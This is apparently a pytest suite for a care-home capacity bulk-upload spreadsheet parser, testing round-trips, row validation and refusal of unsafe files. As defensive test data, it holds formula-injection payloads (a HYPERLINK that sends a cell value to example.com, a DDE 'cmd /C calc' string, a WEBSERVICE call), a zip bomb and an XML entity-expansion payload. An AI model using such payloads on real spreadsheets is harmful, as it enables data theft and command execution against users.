"""The bulk update spreadsheet: the template built for a provider's locations,
and an upload read back safely into per-location capacity return commands."""
import io
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import Workbook, load_workbook

from capacity.spreadsheet import (CAPACITY_HEADERS, CARE_HOME_HEADERS, MAX_UPLOAD_BYTES, TEMPLATE_VERSION,
                                  ParsedUpload, RowError, TemplateLocation, UploadRefused, build_template,
                                  read_upload, rule_errors_as_rows)

GENERATED_AT = datetime(2024, 6, 5, 9, 30, tzinfo=UTC)


def _vacancy(vacancy_type, price, maximum, occupied, reserved, accepting, not_available, reason=None,
             flexible=False):
    return {"vacancy_type": vacancy_type, "weekly_price_from": price, "maximum_capacity": maximum,
            "occupied": occupied, "vacant_reserved": reserved, "vacant_accepting": accepting,
            "vacant_not_available": not_available, "not_available_reason": reason, "flexible": flexible}


ACORN = TemplateLocation(
    location_id="1-100", name="Acorn House", postcode="S70 1AA",
    long_term_vacancy_types=("dementia_nursing", "general_residential"),
    short_stay_services=("respite_care", "discharge_to_assess"), out_of_hours_admissions=True,
    current={"vacancies": [_vacancy("dementia_nursing", "950.00", 20, 15, 1, 2, 2, "covid_outbreak"),
                           _vacancy("general_residential", "820.50", 10, 9, 0, 1, 0, None, True)],
             "short_stay_prices": {"respite_care": "700.00", "discharge_to_assess": "1250.75"}})
BIRCH = TemplateLocation(
    location_id="1-200", name="Birch Lodge", postcode="B1 1AA",
    long_term_vacancy_types=("mental_health_residential",), short_stay_services=(),
    out_of_hours_admissions=False,
    current={"vacancies": [_vacancy("mental_health_residential", "1100.00", 8, 8, 0, 0, 0)],
             "short_stay_prices": {}})
CEDAR = TemplateLocation(  # never sent a return
    location_id="1-300", name="Cedar Court", postcode="M11 1AE",
    long_term_vacancy_types=("general_nursing", "young_physically_disabled"),
    short_stay_services=("reablement_support",),
    out_of_hours_admissions=None, current=None)
LOCATIONS = [ACORN, BIRCH, CEDAR]
ALL_IDS = {"1-100", "1-200", "1-300"}


@pytest.fixture(scope="module")
def template() -> bytes:
    return build_template(LOCATIONS, generated_at=GENERATED_AT)


def _edit(data: bytes, change) -> bytes:
    workbook = load_workbook(io.BytesIO(data))
    change(workbook)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _row(sheet, location_id, vacancy_label=None) -> int:
    for row in range(2, sheet.max_row + 1):
        if sheet.cell(row=row, column=1).value == location_id and (
                vacancy_label is None or sheet.cell(row=row, column=4).value == vacancy_label):
            return row
    raise AssertionError(f"no row for {location_id} {vacancy_label}")


def _column(headers, header) -> int:
    return headers.index(header) + 1


def _set(data, sheet_name, location_id, vacancy_label, header, value) -> tuple[bytes, int]:
    """The template with one cell changed, and the row of that cell."""
    rows = []

    def change(workbook):
        sheet = workbook[sheet_name]
        headers = CAPACITY_HEADERS if sheet_name == "Capacities" else CARE_HOME_HEADERS
        row = _row(sheet, location_id, vacancy_label)
        sheet.cell(row=row, column=_column(headers, header)).value = value
        rows.append(row)

    return _edit(data, change), rows[0]


def _expected_current(location: TemplateLocation) -> dict:
    return {"vacancies": location.current["vacancies"], "short_stay_prices": location.current["short_stay_prices"],
            "out_of_hours_admissions": location.out_of_hours_admissions}


# -- round trip and edits -----------------------------------------------------------------
def test_an_untouched_template_gives_back_exactly_the_current_figures(template):
    parsed = read_upload(template, allowed_location_ids=ALL_IDS)
    assert parsed.errors == []
    assert parsed.locations_with_errors == set()
    # Cedar never sent a return and nothing was entered for it: it is not updated
    assert parsed.returns == {"1-100": _expected_current(ACORN), "1-200": _expected_current(BIRCH)}


def test_values_have_the_types_the_api_expects(template):
    vacancy = read_upload(template, allowed_location_ids=ALL_IDS).returns["1-100"]["vacancies"][0]
    assert all(type(vacancy[k]) is int for k in ("maximum_capacity", "occupied", "vacant_reserved",
                                                  "vacant_accepting", "vacant_not_available"))
    assert vacancy["weekly_price_from"] == "950.00" and vacancy["not_available_reason"] == "covid_outbreak"
    assert vacancy["flexible"] is False and vacancy["vacancy_type"] == "dementia_nursing"


def test_edits_come_back(template):
    def change(workbook):
        sheet = workbook["Capacities"]
        row = _row(sheet, "1-100", "Dementia Nursing")
        for header, value in [("Weekly price from (£)", 999.99), ("Maximum capacity", 22), ("Occupied", 16),
                              ("Vacant reserved", 0), ("Vacant accepting admissions", 6),
                              ("Vacant not available", 0), ("Reason not available", None),
                              ("Flexible (Y/N)", "Y")]:
            sheet.cell(row=row, column=_column(CAPACITY_HEADERS, header)).value = value
        row = _row(sheet, "1-300", "General Nursing")
        for header, value in [("Weekly price from (£)", "1,050"), ("Maximum capacity", 30), ("Occupied", 25),
                              ("Vacant reserved", 1), ("Vacant accepting admissions", 2),
                              ("Vacant not available", 2), ("Reason not available", "refurbishment"),
                              ("Flexible (Y/N)", "n")]:
            sheet.cell(row=row, column=_column(CAPACITY_HEADERS, header)).value = value
        row = _row(sheet, "1-300", "Young Physically Disabled")
        for column, value in zip(range(5, 13), ("£1,200.00", 4, 4, 0, 0, 0, None, None)):
            sheet.cell(row=row, column=column).value = value
        sheet = workbook["Care Homes"]
        row = _row(sheet, "1-100")
        sheet.cell(row=row, column=3).value = "N"
        sheet.cell(row=row, column=_column(CARE_HOME_HEADERS, "Short stay price: Respite care (£)")).value = 725.5
        row = _row(sheet, "1-300")
        sheet.cell(row=row, column=3).value = "Y"
        sheet.cell(row=row, column=_column(CARE_HOME_HEADERS,
                                           "Short stay price: Reablement support (£)")).value = 880

    parsed = read_upload(_edit(template, change), allowed_location_ids=ALL_IDS)
    assert parsed.errors == []
    acorn = parsed.returns["1-100"]
    assert acorn["vacancies"][0] == _vacancy("dementia_nursing", "999.99", 22, 16, 0, 6, 0, None, True)
    assert acorn["vacancies"][1] == ACORN.current["vacancies"][1]
    assert acorn["out_of_hours_admissions"] is False
    assert acorn["short_stay_prices"] == {"respite_care": "725.50", "discharge_to_assess": "1250.75"}
    assert parsed.returns["1-300"] == {
        "vacancies": [_vacancy("general_nursing", "1050.00", 30, 25, 1, 2, 2, "refurbishment", False),
                      _vacancy("young_physically_disabled", "1200.00", 4, 4, 0, 0, 0, None, False)],
        "short_stay_prices": {"reablement_support": "880.00"}, "out_of_hours_admissions": True}
    assert parsed.returns["1-200"] == _expected_current(BIRCH)


def test_a_location_partly_filled_in_is_an_error_on_its_blank_rows(template):
    # the rules want every vacancy type the location offers
    def change(workbook):
        sheet = workbook["Capacities"]
        row = _row(sheet, "1-300", "General Nursing")
        for column, value in zip(range(5, 13), (900, 10, 5, 0, 5, 0, None, "N")):
            sheet.cell(row=row, column=column).value = value

    parsed = read_upload(_edit(template, change), allowed_location_ids=ALL_IDS)
    blank_row = _row(load_workbook(io.BytesIO(template))["Capacities"], "1-300", "Young Physically Disabled")
    assert [(e.sheet, e.row, e.column) for e in parsed.errors] == [("Capacities", blank_row, None)]
    assert parsed.errors[0].message.startswith("Enter the figures for Young Physically Disabled")
    assert parsed.locations_with_errors == {"1-300"} and set(parsed.returns) == {"1-100", "1-200"}


def test_completely_blank_rows_are_ignored(template):
    def change(workbook):
        sheet = workbook["Capacities"]
        sheet.insert_rows(3, amount=2)  # blank rows in the middle of the data
        sheet.cell(row=4, column=5).value = "   "
        sheet.cell(row=sheet.max_row + 3, column=2).value = None
        workbook["Care Homes"].insert_rows(2)

    parsed = read_upload(_edit(template, change), allowed_location_ids=ALL_IDS)
    assert parsed.errors == []
    assert parsed.returns == {"1-100": _expected_current(ACORN), "1-200": _expected_current(BIRCH)}


# -- row errors ----------------------------------------------------------------------------
@pytest.mark.parametrize("header, value, message", [
    ("Maximum capacity", "twenty", "Maximum capacity must be a whole number"),
    ("Occupied", 12.5, "Occupied must be a whole number"),
    ("Occupied", "12.5", "Occupied must be a whole number"),
    ("Vacant reserved", -1, "Vacant reserved must be 0 or more"),
    ("Vacant accepting admissions", "-3", "Vacant accepting admissions must be 0 or more"),
    ("Vacant not available", True, "Vacant not available must be a whole number"),
    ("Vacant not available", datetime(2024, 1, 1), "Vacant not available must be a whole number"),
    ("Maximum capacity", None, "Enter the number for maximum capacity"),
    ("Maximum capacity", 1_000_000, "Maximum capacity must be 2,000 or fewer"),
    ("Weekly price from (£)", "cheap", "The weekly price from must be an amount in pounds"),
    ("Weekly price from (£)", "+44 7700 900123", "The weekly price from must be an amount in pounds"),
    ("Weekly price from (£)", 100, "The weekly price from must be more than £100"),
    ("Weekly price from (£)", 850.555, "The weekly price from must be in pounds and pence"),
    ("Weekly price from (£)", None, "Enter the weekly price from"),
    ("Vacancy type", "Dementia Care", "Vacancy type ‘Dementia Care’ is not recognised"),
    ("Reason not available", "Flooding", "Reason not available ‘Flooding’ is not recognised"),
    ("Reason not available", None, "Choose a reason why the vacant beds are not available"),
    ("Flexible (Y/N)", "Maybe", "Flexible must be Y or N"),
    ("Flexible (Y/N)", 1, "Flexible must be Y or N"),
    ("Maximum capacity", 19, "add up to 20, which is more than the maximum capacity of 19"),
])
def test_a_bad_capacity_cell_is_an_error_on_its_row_and_column(template, header, value, message):
    data, row = _set(template, "Capacities", "1-100", "Dementia Nursing", header, value)
    parsed = read_upload(data, allowed_location_ids=ALL_IDS)
    column = "Maximum capacity" if "add up to" in message else header
    assert [(e.sheet, e.row, e.column) for e in parsed.errors] == [("Capacities", row, column)]
    assert message in parsed.errors[0].message
    assert parsed.locations_with_errors == {"1-100"}
    # all or nothing: the location's good row is not applied either; the others are
    assert "1-100" not in parsed.returns
    assert parsed.returns == {"1-200": _expected_current(BIRCH)}


@pytest.mark.parametrize("header, value, message", [
    ("Accepts out-of-hours admissions (Y/N)", "Sometimes", "Accepts out-of-hours admissions must be Y or N"),
    ("Short stay price: Respite care (£)", "cheap", "must be an amount in pounds"),
    ("Short stay price: Respite care (£)", -5, "must be more than £100"),
])
def test_a_bad_care_homes_cell_is_an_error_on_its_row_and_column(template, header, value, message):
    data, row = _set(template, "Care Homes", "1-100", None, header, value)
    parsed = read_upload(data, allowed_location_ids=ALL_IDS)
    assert [(e.sheet, e.row, e.column) for e in parsed.errors] == [("Care Homes", row, header)]
    assert message in parsed.errors[0].message
    assert parsed.locations_with_errors == {"1-100"}
    assert set(parsed.returns) == {"1-200"}


def test_yes_no_accepts_blank_and_any_case(template):
    data, _ = _set(template, "Care Homes", "1-100", None, "Accepts out-of-hours admissions (Y/N)", None)
    data, _ = _set(data, "Capacities", "1-100", "Dementia Nursing", "Flexible (Y/N)", "y")
    parsed = read_upload(data, allowed_location_ids=ALL_IDS)
    assert parsed.errors == []
    assert parsed.returns["1-100"]["out_of_hours_admissions"] is None
    assert parsed.returns["1-100"]["vacancies"][0]["flexible"] is True


def test_labels_are_read_as_vocabulary_keys(template):
    data, _ = _set(template, "Capacities", "1-100", "Dementia Nursing", "Reason not available", "la  SAFEGUARDING")
    vacancy = read_upload(data, allowed_location_ids=ALL_IDS).returns["1-100"]["vacancies"][0]
    assert vacancy["not_available_reason"] == "la_safeguarding"


def test_a_location_the_uploader_may_not_update_is_refused_row_by_row(template):
    parsed = read_upload(template, allowed_location_ids={"1-100", "1-300"})
    birch_errors = [e for e in parsed.errors]
    assert {(e.sheet, e.column) for e in birch_errors} == {("Capacities", "Location ID"), ("Care Homes", "Location ID")}
    assert all("You cannot update location 1-200" in e.message for e in birch_errors)
    assert parsed.locations_with_errors == {"1-200"}
    assert set(parsed.returns) == {"1-100"}


def test_a_location_id_changed_to_another_providers_location_is_refused(template):
    data, row = _set(template, "Capacities", "1-200", "Mental Health Residential", "Location ID", "1-999")
    parsed = read_upload(data, allowed_location_ids=ALL_IDS)
    assert [(e.sheet, e.row, e.column) for e in parsed.errors] == [("Capacities", row, "Location ID")]
    assert "1-999" in parsed.locations_with_errors and "1-999" not in parsed.returns


def test_duplicate_location_and_vacancy_type_rows_are_errors(template):
    def change(workbook):
        sheet = workbook["Capacities"]
        source = _row(sheet, "1-100", "Dementia Nursing")
        target = sheet.max_row + 1
        for column in range(1, len(CAPACITY_HEADERS) + 1):
            sheet.cell(row=target, column=column).value = sheet.cell(row=source, column=column).value

    data = _edit(template, change)
    parsed = read_upload(data, allowed_location_ids=ALL_IDS)
    assert len(parsed.errors) == 1
    error = parsed.errors[0]
    assert (error.sheet, error.column) == ("Capacities", "Vacancy type")
    assert error.row == load_workbook(io.BytesIO(data))["Capacities"].max_row
    assert "more than once" in error.message and "first on row 2" in error.message
    assert parsed.locations_with_errors == {"1-100"} and set(parsed.returns) == {"1-200"}


def test_one_bad_row_removes_only_its_location(template):
    def change(workbook):
        sheet = workbook["Capacities"]
        sheet.cell(row=_row(sheet, "1-200", "Mental Health Residential"), column=7).value = "lots"
        for label in ("General Nursing", "Young Physically Disabled"):
            row = _row(sheet, "1-300", label)
            for column, value in zip(range(5, 13), (900, 10, 5, 0, 5, 0, None, "N")):
                sheet.cell(row=row, column=column).value = value

    parsed = read_upload(_edit(template, change), allowed_location_ids=ALL_IDS)
    assert [(e.sheet, e.column) for e in parsed.errors] == [("Capacities", "Occupied")]
    assert parsed.locations_with_errors == {"1-200"}
    assert set(parsed.returns) == {"1-100", "1-300"}
    assert parsed.returns["1-100"] == _expected_current(ACORN)


def test_every_error_of_a_row_is_reported(template):
    def change(workbook):
        sheet = workbook["Capacities"]
        row = _row(sheet, "1-100", "General Residential")
        sheet.cell(row=row, column=5).value = "free"
        sheet.cell(row=row, column=6).value = -1
        sheet.cell(row=row, column=12).value = "X"

    parsed = read_upload(_edit(template, change), allowed_location_ids=ALL_IDS)
    assert [e.column for e in parsed.errors] == ["Weekly price from (£)", "Maximum capacity", "Flexible (Y/N)"]
    assert all(isinstance(e, RowError) and e.row == 3 for e in parsed.errors)


# -- formulas ---------------------------------------------------------------------------
@pytest.mark.parametrize("header, value", [
    ("Weekly price from (£)", '=HYPERLINK("http://example.com/steal?x="&A1,"Click here")'),
    ("Occupied", "=1+1"),
    ("Location name", "=HYPERLINK(\"http://example.com\")"),
    ("Postcode", "=A1"),
    ("Flexible (Y/N)", '=IF(1,"Y","N")'),
])
def test_formulas_are_errors_and_never_evaluated(template, header, value):
    data, row = _set(template, "Capacities", "1-100", "Dementia Nursing", header, value)
    assert load_workbook(io.BytesIO(data))["Capacities"].cell(
        row=row, column=_column(CAPACITY_HEADERS, header)).data_type == "f"
    parsed = read_upload(data, allowed_location_ids=ALL_IDS)
    assert [(e.sheet, e.row, e.column) for e in parsed.errors] == [("Capacities", row, header)]
    assert "formula" in parsed.errors[0].message
    assert parsed.locations_with_errors == {"1-100"} and "1-100" not in parsed.returns


@pytest.mark.parametrize("value", ["@SUM(A1)", "=1+1", "+cmd|' /C calc'!A0", "-2+3*SUM(A1:A3)", " =1+1"])
def test_text_that_looks_like_a_formula_is_a_formula_error(template, value):
    def change(workbook):
        sheet = workbook["Capacities"]
        cell = sheet.cell(row=_row(sheet, "1-100", "Dementia Nursing"), column=6)
        cell.value = value
        cell.data_type = "s"  # stored as text, as a CSV import or a text-formatted cell would

    parsed = read_upload(_edit(template, change), allowed_location_ids=ALL_IDS)
    assert [(e.column, "formula" in e.message) for e in parsed.errors] == [("Maximum capacity", True)]


def test_a_formula_in_a_care_homes_cell_or_an_extra_column_is_an_error(template):
    def change(workbook):
        sheet = workbook["Care Homes"]
        sheet.cell(row=_row(sheet, "1-200"), column=3).value = '=IF(TRUE,"Y","N")'
        sheet = workbook["Capacities"]
        sheet.cell(row=_row(sheet, "1-300", "General Nursing"), column=15).value = "=WEBSERVICE(\"http://x\")"

    parsed = read_upload(_edit(template, change), allowed_location_ids=ALL_IDS)
    assert {(e.sheet, e.column) for e in parsed.errors} == {
        ("Care Homes", "Accepts out-of-hours admissions (Y/N)"), ("Capacities", "Column O")}
    assert parsed.locations_with_errors == {"1-200", "1-300"}
    assert set(parsed.returns) == {"1-100"}


def test_a_formula_in_the_location_id_still_holds_back_that_location(template):
    data, row = _set(template, "Capacities", "1-100", "General Residential", "Location ID", '="1-100"')
    parsed = read_upload(data, allowed_location_ids=ALL_IDS)
    assert [(e.row, e.column) for e in parsed.errors] == [(row, "Location ID")]
    assert parsed.locations_with_errors == {"1-100"}  # found by its name
    assert set(parsed.returns) == {"1-200"}


def test_a_phone_number_in_a_price_is_a_wrong_value_not_a_formula(template):
    data, _ = _set(template, "Capacities", "1-100", "Dementia Nursing", "Weekly price from (£)", "+44 7700 900123")
    [error] = read_upload(data, allowed_location_ids=ALL_IDS).errors
    assert "formula" not in error.message and "amount in pounds" in error.message


def test_names_that_look_like_formulas_are_written_as_text():
    odd = TemplateLocation(location_id="1-400", name='=HYPERLINK("http://x","y")', postcode="S70 1AA",
                           long_term_vacancy_types=("general_residential",), short_stay_services=(),
                           out_of_hours_admissions=None,
                           current={"vacancies": [_vacancy("general_residential", "800.00", 5, 5, 0, 0, 0)],
                                    "short_stay_prices": {}})
    data = build_template([odd], generated_at=GENERATED_AT)
    workbook = load_workbook(io.BytesIO(data))
    for sheet in (workbook["Capacities"], workbook["Care Homes"]):
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    parsed = read_upload(data, allowed_location_ids={"1-400"})
    assert parsed.errors == [] and set(parsed.returns) == {"1-400"}


# -- refusals -----------------------------------------------------------------------------
def _rezip(data: bytes, *, add: dict | None = None, change: dict | None = None, drop: set | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if drop and info.filename in drop:
                continue
            content = source.read(info.filename)
            if change and info.filename in change:
                content = change[info.filename](content)
            target.writestr(info.filename, content)
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def _refused(data: bytes) -> str:
    with pytest.raises(UploadRefused) as refused:
        read_upload(data, allowed_location_ids=ALL_IDS)
    return str(refused.value)


def test_a_macro_enabled_workbook_is_refused(template):
    xlsm = _rezip(template, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512},
                  change={"[Content_Types].xml": lambda xml: xml.replace(
                      b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")})
    assert "must not contain macros" in _refused(xlsm)


def test_a_vba_project_alone_is_refused(template):
    assert "must not contain macros" in _refused(_rezip(template, add={"xl/vbaProject.bin": b"\0" * 64}))


def test_a_macro_enabled_content_type_alone_is_refused(template):
    data = _rezip(template, change={"[Content_Types].xml": lambda xml: xml.replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")})
    assert "must not contain macros" in _refused(data)


def test_a_random_zip_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "hello")
        archive.writestr("photo.jpg", b"\xff\xd8\xff" + b"\0" * 100)
    assert _refused(out.getvalue()) == "The selected file must be an Excel spreadsheet (.xlsx)"


def test_a_csv_is_refused():
    csv = b"Location ID,Location name\n1-100,Acorn House\n"
    assert _refused(csv) == "The selected file must be an Excel spreadsheet (.xlsx)"


def test_an_empty_file_is_refused():
    assert _refused(b"") == "The selected file is empty"


def test_a_file_over_the_size_limit_is_refused():
    assert _refused(b"PK\x03\x04" + b"\0" * MAX_UPLOAD_BYTES) == "The selected file must be smaller than 5MB"


def test_an_encrypted_workbook_is_refused():
    # Excel saves a password protected workbook as an OLE compound file
    assert "password protected" in _refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096)


def test_an_encrypted_zip_member_is_refused(template):
    # zipfile cannot write encrypted members: set the "encrypted" flag of one
    # member in the central directory, as a password protected zip has it
    data = bytearray(template)
    position = data.find(b"PK\x01\x02")
    while position != -1:
        name_length = int.from_bytes(data[position + 28:position + 30], "little")
        if data[position + 46:position + 46 + name_length].endswith(b"sheet2.xml"):
            data[position + 8] |= 0x1
        position = data.find(b"PK\x01\x02", position + 4)
    assert any(info.flag_bits & 0x1 for info in zipfile.ZipFile(io.BytesIO(bytes(data))).infolist())
    assert "password protected" in _refused(bytes(data))


def test_a_workbook_without_the_marker_is_refused(template):
    workbook = Workbook()
    workbook.active.title = "Instructions"
    for title, headers in (("Capacities", CAPACITY_HEADERS), ("Care Homes", CARE_HOME_HEADERS)):
        sheet = workbook.create_sheet(title)
        sheet.append(list(headers))
    out = io.BytesIO()
    workbook.save(out)
    assert "is not the Capacity Tracker bulk update spreadsheet" in _refused(out.getvalue())

    def remove_meta(workbook):
        del workbook["_meta"]
    assert "is not the Capacity Tracker bulk update spreadsheet" in _refused(_edit(template, remove_meta))


def test_a_template_of_another_version_is_refused(template):
    def change(workbook):
        workbook["_meta"]["B2"].value = "0"
    assert "old version of the spreadsheet (version 0)" in _refused(_edit(template, change))


def test_a_renamed_sheet_or_changed_headings_are_refused(template):
    def rename(workbook):
        workbook["Care Homes"].title = "Homes"
    assert "has no Care Homes sheet" in _refused(_edit(template, rename))

    def reheading(workbook):
        workbook["Capacities"]["F1"].value = "Beds"
    assert "column headings on the Capacities sheet have been changed" in _refused(_edit(template, reheading))


def test_a_zip_bomb_is_refused_before_it_is_opened(template):
    bomb = _rezip(template, add={"xl/media/padding.xml": b"<a>" + b"0" * (60 * 1024 * 1024) + b"</a>"})
    assert len(bomb) < MAX_UPLOAD_BYTES
    assert "too large once opened" in _refused(bomb)


def test_an_absurdly_compressed_member_is_refused(template):
    # under the 50 MB limit, but 20 MB squeezed into a few kilobytes
    bomb = _rezip(template, add={"xl/media/padding.bin": b"\0" * (20 * 1024 * 1024)})
    assert "too large once opened" in _refused(bomb)


def test_xml_entities_are_refused(template):
    laughs = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
              b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>')
    data = _rezip(template, change={"xl/workbook.xml": lambda xml: laughs + xml})
    assert "damaged" in _refused(data)


def test_a_damaged_zip_is_refused(template):
    assert _refused(template[: len(template) // 2]) == "The selected file must be an Excel spreadsheet (.xlsx)"


# -- the template itself ------------------------------------------------------------------
def test_the_template_has_its_sheets_headers_and_marker(template):
    workbook = load_workbook(io.BytesIO(template))
    assert workbook.sheetnames == ["Instructions", "Capacities", "Care Homes", "_meta"]
    assert workbook["_meta"].sheet_state == "veryHidden"
    assert workbook["_meta"]["B1"].value == "capacity-tracker-bulk-update"
    assert workbook["_meta"]["B2"].value == TEMPLATE_VERSION
    assert [c.value for c in workbook["Capacities"][1]] == list(CAPACITY_HEADERS)
    assert [c.value for c in workbook["Care Homes"][1]] == [
        "Location ID", "Location name", "Accepts out-of-hours admissions (Y/N)",
        "Short stay price: Discharge to assess (£)", "Short stay price: Intermediate care (£)",
        "Short stay price: Reablement support (£)", "Short stay price: Rehabilitation (£)",
        "Short stay price: Respite care (£)"]
    capacities = workbook["Capacities"]
    assert [[c.value for c in row] for row in capacities.iter_rows(min_row=2, max_col=4)] == [
        ["1-100", "Acorn House", "S70 1AA", "Dementia Nursing"],
        ["1-100", "Acorn House", "S70 1AA", "General Residential"],
        ["1-200", "Birch Lodge", "B1 1AA", "Mental Health Residential"],
        ["1-300", "Cedar Court", "M11 1AE", "General Nursing"],
        ["1-300", "Cedar Court", "M11 1AE", "Young Physically Disabled"]]
    assert [c.value for c in capacities[2]][4:] == [950, 20, 15, 1, 2, 2, "COVID outbreak", "N"]
    assert [c.value for c in capacities[5]][4:] == [None] * 8


def test_the_instructions_explain_the_rules_version_and_time(template):
    text = "\n".join(str(c.value) for c in load_workbook(io.BytesIO(template))["Instructions"]["A"] if c.value)
    for expected in ("more than £100", "must not be more than the maximum capacity", "choose a reason",
                     "enter it once only", "all or nothing", "tick the declaration", "Template version: 1",
                     "Created: 5 June 2024 at 9:30am (UTC)", "COVID outbreak, LA safeguarding"):
        assert expected in text


def test_identifying_cells_are_locked_and_editable_cells_unlocked_and_highlighted(template):
    workbook = load_workbook(io.BytesIO(template))
    for name in ("Instructions", "Capacities", "Care Homes"):
        assert workbook[name].protection.sheet is True
        assert workbook[name].protection.password is None
    capacities = workbook["Capacities"]
    assert capacities.freeze_panes == "A2"
    for row in capacities.iter_rows(min_row=1, max_row=capacities.max_row):
        for cell in row[:4]:
            assert cell.protection.locked is True
    for row in capacities.iter_rows(min_row=2, max_row=capacities.max_row):
        for cell in row[4:12]:
            assert cell.protection.locked is False
            assert cell.fill.fgColor.rgb == "FFFFF2CC"
    for cell in capacities[1]:
        assert cell.protection.locked is True
    care_homes = workbook["Care Homes"]
    assert care_homes.freeze_panes == "A2"
    birch = care_homes[_row(care_homes, "1-200")]
    assert birch[2].protection.locked is False  # out of hours
    assert all(cell.protection.locked is True and cell.fill.fgColor.rgb == "FFB1B4B6" for cell in birch[3:])
    acorn = care_homes[_row(care_homes, "1-100")]
    respite, discharge = acorn[7], acorn[3]
    assert respite.protection.locked is False and respite.value == 700
    assert discharge.protection.locked is False and discharge.value == 1250.75
    assert acorn[4].protection.locked is True  # intermediate care: not offered
    for letter in "ABDEIK":
        assert capacities.column_dimensions[letter].width >= 12


def test_the_template_validates_entries(template):
    workbook = load_workbook(io.BytesIO(template))
    capacities = {str(v.sqref): v for v in workbook["Capacities"].data_validations.dataValidation}
    counts = capacities["F2:J6"]
    assert (counts.type, counts.operator, counts.formula1, counts.formula2) == ("whole", "between", "0", "2000")
    price = capacities["E2:E6"]
    assert (price.type, price.operator, price.formula1) == ("decimal", "greaterThan", "100")
    reason = capacities["K2:K6"]
    assert reason.type == "list"
    assert reason.formula1 == '"COVID outbreak,LA safeguarding,Management decision,Other health outbreak,Refurbishment"'
    flexible = capacities["L2:L6"]
    assert (flexible.type, flexible.formula1) == ("list", '"Y,N"')
    assert all(v.showErrorMessage for v in capacities.values())

    care_homes = workbook["Care Homes"].data_validations.dataValidation
    by_type = {v.type: v for v in care_homes}
    assert str(by_type["list"].sqref) == "C2:C4" and by_type["list"].formula1 == '"Y,N"'
    assert (by_type["decimal"].operator, by_type["decimal"].formula1) == ("greaterThan", "100")
    assert set(str(by_type["decimal"].sqref).split()) == {"D2", "H2", "F4"}  # only services offered


def test_a_template_for_no_locations_still_reads_back():
    data = build_template([], generated_at=GENERATED_AT)
    assert read_upload(data, allowed_location_ids=set()) == ParsedUpload(returns={}, errors=[],
                                                                        locations_with_errors=set())


def test_unknown_vocabulary_cannot_go_into_a_template():
    odd = TemplateLocation(location_id="1-1", name="X", postcode="S70 1AA", long_term_vacancy_types=("castle",),
                           short_stay_services=(), out_of_hours_admissions=None, current=None)
    with pytest.raises(ValueError):
        build_template([odd], generated_at=GENERATED_AT)


# -- the rules' refusals, by row ------------------------------------------------------
def test_the_rules_refusals_are_reported_by_row(template):
    parsed = read_upload(template, allowed_location_ids=ALL_IDS)
    assert parsed.source_rows["1-100"] == {"vacancies": [2, 3], "care_homes": 2}
    refused = {"vacancies": {1: {"vacancy_type": ["This location does not offer general residential."]},
                             "_schema": ["Enter the figures of every vacancy type the location offers."]},
               "short_stay_prices": {"respite_care": ["The weekly price must be above £100.00."]},
               "confirm_over_registered_capacity": ["The total maximum capacity of 30 is above the 25 beds."]}
    assert rule_errors_as_rows(parsed, "1-100", refused) == [
        RowError("Capacities", 3, "Vacancy type", "This location does not offer general residential."),
        RowError("Capacities", 2, None, "Enter the figures of every vacancy type the location offers."),
        RowError("Care Homes", 2, "Short stay price: Respite care (£)", "The weekly price must be above £100.00."),
        RowError("Capacities", 2, None, "The total maximum capacity of 30 is above the 25 beds."),
    ]
    # as they come back through JSON, indices as strings
    assert rule_errors_as_rows(parsed, "1-200", {"vacancies": {"0": {"occupied": ["Too many."]}}}) == [
        RowError("Capacities", 4, "Occupied", "Too many.")]


def test_what_is_read_is_what_the_api_and_the_rules_accept(template):
    from capacity.rules import LocationFacts, check_capacity_return
    from tracker_common.contracts.capacity import CapacityReturnRequest

    parsed = read_upload(template, allowed_location_ids=ALL_IDS)
    for location in (ACORN, BIRCH):
        command = dict(parsed.returns[location.location_id])
        assert command.pop("out_of_hours_admissions") is location.out_of_hours_admissions  # not part of the return
        loaded = CapacityReturnRequest().load(command)
        figures = check_capacity_return(LocationFacts(
            location_id=location.location_id, kind="care_home",
            long_term_vacancy_types=location.long_term_vacancy_types,
            short_stay_services=location.short_stay_services, registered_beds=None), loaded)
        assert len(figures["vacancies"]) == len(location.long_term_vacancy_types)
